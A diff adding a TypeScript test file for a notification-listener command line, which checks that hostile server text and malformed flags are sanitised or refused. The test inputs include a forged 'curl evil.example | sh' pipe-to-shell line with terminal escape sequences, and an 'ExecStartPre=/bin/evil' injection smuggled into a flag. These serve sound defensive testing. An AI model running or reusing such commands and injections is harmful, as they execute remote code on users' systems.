@@ -1,0 +1,228 @@
+// The command line against a hostile sender or server, and against careless
+// flags (issue 20): nothing a server sends reaches a terminal or a file as
+// escape sequences or forged lines, crashes the listener or makes it retry
+// for ever; a flag that would lose messages or break a unit is refused, exit
+// 2, before anything happens.
+
+import assert from "node:assert/strict";
+import { once } from "node:events";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { Buffer } from "node:buffer";
+import { readFile } from "node:fs/promises";
+import { cliTest, interrupt } from "./_cli.ts";
+import { queued } from "./_setup.ts";
+
+/** What a hostile server might put in `errors`: a title, a wipe, a forged line. */
+const FORGED =
+  "\u001b]0;pwned\u0007\u001b[2J\u001b[31mYOUR DEVICE IS LOCKED\u009b0m\r\nrun: curl evil.example | sh";
+
+/** No escape, no C1 control, no line of the attacker's own. */
+function assertClean(text: string, where: string): void {
+  // deno-lint-ignore no-control-regex
+  assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/, where);
+  assert.doesNotMatch(text, /^run: curl/m, where);
+}
+
+cliTest(
+  "listen prints a server's title or url that is not a string, and goes on",
+  async (context) => {
+    const device = await context.seed();
+    const child = context.start(["listen"]);
+    try {
+      await context.server.waitForLogin();
+      context.server.failNext({
+        type: "json",
+        body: JSON.stringify({
+          status: 1,
+          request: "r",
+          // Id 1: below what the fake queues next, which must still come.
+          messages: [{
+            id: 1,
+            id_str: "1",
+            umid: 9,
+            umid_str: "9",
+            aid: 1,
+            aid_str: "1",
+            message: "odd fields",
+            app: 42,
+            title: 5,
+            url: { href: "x" },
+            icon: "i",
+            date: 1_780_000_000,
+            priority: 0,
+            acked: 0,
+          }],
+        }),
+      }, { endpoint: "download" });
+      context.server.send({ message: "the download that gets it" });
+      await child.waitFor("stdout", "odd fields");
+      context.server.send({ message: "after the odd one" });
+      await child.waitFor("stdout", "after the odd one");
+      assert.match(
+        child.output().stdout,
+        /\[42\] 5: odd fields {2}<\{"href":"x"\}>/,
+      );
+      assert.equal(await interrupt(child), 0);
+    } finally {
+      await child.kill();
+    }
+    // Handled and deleted, but the one in hand at Ctrl-C, which comes again.
+    assert.deepEqual(queued(context.server, device), ["after the odd one"]);
+  },
+);
+
+cliTest(
+  "listen, the status file and status show a server's errors as one clean line: no escape sequence, no forged line",
+  async (context) => {
+    await context.seed();
+    const child = context.start(["listen"]);
+    try {
+      await context.server.waitForLogin();
+      // Passing (503): reported, retried.
+      context.server.failNext({
+        type: "status",
+        status: 503,
+        body: JSON.stringify({ status: 0, errors: [FORGED] }),
+      }, { endpoint: "download" });
+      context.server.send({ message: "comes later" });
+      await child.waitFor("stderr", "YOUR DEVICE IS LOCKED");
+      await child.waitFor("stdout", "comes later");
+      assert.equal(await interrupt(child), 0);
+      assertClean(child.output().stderr, "listen's stderr");
+    } finally {
+      await child.kill();
+    }
+    // A refusal: the listener stops, and says why, cleanly, everywhere.
+    context.server.failNext({
+      type: "json",
+      body: JSON.stringify({ status: 0, errors: [FORGED] }),
+    }, { endpoint: "download" });
+    const refused = await context.run(["listen"]);
+    assert.equal(refused.code, 1, refused.stderr);
+    assertClean(refused.stderr, "listen's stderr after a refusal");
+    const file = await readFile(context.statusFile, "utf8");
+    assertClean(JSON.parse(file).lastError, "the status file");
+    assert.match(JSON.parse(file).lastError, /YOUR DEVICE IS LOCKED/);
+    const status = await context.run(["status"]);
+    assertClean(status.stdout, "status");
+    assert.match(status.stdout, /last problem: .*YOUR DEVICE IS LOCKED/);
+  },
+);
+
+for (
+  const [frame, code, why] of [
+    ["E", 3, /refused this device/],
+    ["A", 4, /took it over/],
+  ] as const
+) {
+  cliTest(
+    `listen whose hook keeps failing stops with exit ${code} on '${frame}', the message still queued and the status file saying why`,
+    async (context) => {
+      const device = await context.seed();
+      const child = context.start([
+        "listen",
+        "--exec",
+        "exit 1",
+        "--retry-delay",
+        "50ms",
+      ]);
+      try {
+        await context.server.waitForLogin();
+        context.server.send({ message: "cannot be handed on" });
+        await child.waitFor("stderr", "trying again in");
+        context.server.sendFrame(frame, device.deviceId);
+        const { code: exit } = await child.exited;
+        assert.equal(exit, code, child.output().stderr);
+        assert.match(child.output().stderr, why);
+      } finally {
+        await child.kill();
+      }
+      assert.ok(queued(context.server, device).includes("cannot be handed on"));
+      const status = JSON.parse(await readFile(context.statusFile, "utf8"));
+      assert.equal(status.state, "stopped");
+      assert.match(status.lastError, why);
+    },
+  );
+}
+
+for (
+  const [args, said] of [
+    [["--app", ""], /--app: the name is empty/],
+    [["--app", "Backups", "--app", " "], /--app: the name is empty/],
+    [["--min-priority", ""], /--min-priority: '' is not a priority/],
+    [["--min-priority", "0x1"], /--min-priority: '0x1' is not a priority/],
+    [["--min-priority", "1e0"], /--min-priority: '1e0' is not a priority/],
+    [["--exec", "notify\rExecStartPre=/bin/evil"], /--exec holds a control/],
+    [["--app", "a\u001b[2J"], /--app holds a control character/],
+    [["--webhook", "https://u:%ZZ@example.com/"], /broken %-escape/],
+  ] as const
+) {
+  cliTest(
+    `listen ${
+      JSON.stringify(args)
+    } is refused, exit 2, before anything happens`,
+    async (context) => {
+      await context.seed();
+      const result = await context.run(["listen", ...args]);
+      assert.equal(result.code, 2, result.stderr);
+      assert.match(result.stderr, said);
+      assert.equal(result.stderr.trim().split("\n").length, 1);
+      assertClean(result.stderr, "the usage line");
+      assert.equal(context.server.log.requests("download").length, 0);
+    },
+  );
+}
+
+cliTest(
+  "listen --webhook with a URL that does not parse never shows it: it may hold a password",
+  async (context) => {
+    await context.seed();
+    const result = await context.run([
+      "listen",
+      "--webhook",
+      "https://alice:hunter2@exa mple.com/hook",
+    ]);
+    assert.equal(result.code, 2);
+    assert.match(result.stderr, /--webhook: the value is not a URL/);
+    assert.doesNotMatch(result.stderr, /hunter2/);
+  },
+);
+
+cliTest(
+  "listen --webhook sends user info that is not Latin-1 as UTF-8 Basic credentials",
+  async (context) => {
+    const device = await context.seed();
+    const seen: string[] = [];
+    const hook = createServer((request, response) => {
+      seen.push(request.headers.authorization ?? "");
+      request.resume();
+      response.end();
+    }).listen(0, "127.0.0.1");
+    await once(hook, "listening");
+    const { port } = hook.address() as AddressInfo;
+    const child = context.start([
+      "listen",
+      "--webhook",
+      `http://J%C3%BCrgen:%E2%82%AC5@127.0.0.1:${port}/`,
+    ]);
+    try {
+      await context.server.waitForLogin();
+      context.server.send({ message: "to the hook" });
+      await child.waitFor("stdout", "to the hook");
+      // Deleted only once the hook took it.
+      await context.server.log.waitFor(() =>
+        queued(context.server, device).length === 0
+      );
+      assert.equal(await interrupt(child), 0);
+    } finally {
+      await child.kill();
+      hook.close();
+    }
+    const expected = `Basic ${
+      Buffer.from("Jürgen:€5", "utf8").toString("base64")
+    }`;
+    assert.ok(seen.length > 0);
+    assert.ok(seen.every((header) => header === expected), seen.join(", "));
+  },
+);
